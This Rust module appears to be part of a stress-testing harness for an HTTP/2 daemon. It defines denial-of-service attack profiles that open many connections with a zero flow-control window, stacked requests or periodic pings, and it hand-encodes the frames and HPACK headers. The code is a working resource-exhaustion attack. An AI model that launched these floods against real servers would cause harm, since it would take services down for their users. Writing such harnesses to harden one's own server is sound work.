//! HTTP/2 from peers that take no answer: with a window of zero, or with nothing but pings.

use super::Attack;
use super::crowd::Crowd;

/// Requests on each connection.
const REQUESTS: usize = 128;

/// A frame that the daemon must answer and that moves no answer.
const PING: &[u8] = &[0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];

pub(super) const ZERO_WINDOW: Attack = Attack {
    name: "zero-window",
    about: "HTTP/2, window 0, 128 requests for `/` on each connection, pings; one address",
    connections: 100,
    addresses: 1,
    begin: |target, attack| Crowd::of(target, attack, &opening("/", REQUESTS)),
    sign_of_life: Some(PING),
};

pub(super) const ZERO_WINDOW_FROM_MANY: Attack = Attack {
    name: "zero-window-many",
    about: "the same; 64 addresses",
    connections: 15_000,
    addresses: 64,
    ..ZERO_WINDOW
};

pub(super) const ZERO_WINDOW_FOR_THE_DESCRIPTION: Attack = Attack {
    name: "zero-window-description",
    about: "the same for `/openapi.json`; 64 addresses",
    begin: |target, attack| Crowd::of(target, attack, &opening("/openapi.json", REQUESTS)),
    ..ZERO_WINDOW_FROM_MANY
};

pub(super) const PINGS: Attack = Attack {
    name: "pings",
    about: "HTTP/2 without a request, a ping every 15 s; 64 addresses",
    begin: |target, attack| Crowd::of(target, attack, &opening("/", 0)),
    ..ZERO_WINDOW_FROM_MANY
};

/// Returns the preface, the settings with a window of zero for each answer, and so many requests.
fn opening(path: &str, requests: usize) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE is 4.
    frame(&mut bytes, 4, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let head = head(path);
    for stream in (1..).step_by(2).take(requests) {
        // END_STREAM and END_HEADERS.
        frame(&mut bytes, 1, 5, stream, &head);
    }
    bytes
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    bytes.extend(length.iter().skip(1));
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// Returns the fields of a request in HPACK (RFC 7541): names of the static table, values as they are.
fn head(path: &str) -> Vec<u8> {
    // `:method: GET` and `:scheme: http`.
    let mut head = vec![0x82, 0x86];
    // `:path` and `:authority`, without indexing.
    for (name, value) in [(0x04, path), (0x01, "attack")] {
        head.extend([name, u8::try_from(value.len()).unwrap_or_default()]);
        head.extend(value.as_bytes());
    }
    head
}
